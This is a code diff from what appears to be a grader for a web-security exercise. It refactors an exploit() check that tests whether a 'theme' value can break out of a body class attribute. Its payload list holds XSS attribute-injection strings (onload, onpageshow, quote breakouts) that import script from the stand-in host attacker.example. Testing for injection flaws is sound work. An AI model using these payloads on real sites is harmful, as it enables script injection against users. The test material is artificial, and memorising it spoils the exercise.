@@ -29,16 +29,18 @@ def works(code):
     assert [tag["attributes"]["class"] for tag in tags_of(plain) if tag["name"] == "body"] == ["light"]
 
 
-def exploit(code):
-    payload = "import(`//attacker.example/v.js`)"
-    themes = [
-        f"dark onload={payload}",
-        f"dark\tonload={payload}",
-        f"dark onpageshow={payload}",
-        f"dark' onload='{payload}",
-        f'dark" onload="{payload}',
-    ]
-    return any(payload in scripts_of(open_page(code, theme=theme)) for theme in themes)
+SCRIPT = "import(`//attacker.example/v.js`)"
+FORMS = (
+    f"dark onload={SCRIPT}",
+    f"dark\tonload={SCRIPT}",
+    f"dark onpageshow={SCRIPT}",
+    f"dark' onload='{SCRIPT}",
+    f'dark" onload="{SCRIPT}',
+)
+
+
+def exploit(code, vary=None, payloads=FORMS):
+    return any(SCRIPT in scripts_of(open_page(code, theme=theme)) for theme in payloads)
 
 
 # Attack mode: the learner writes the input.
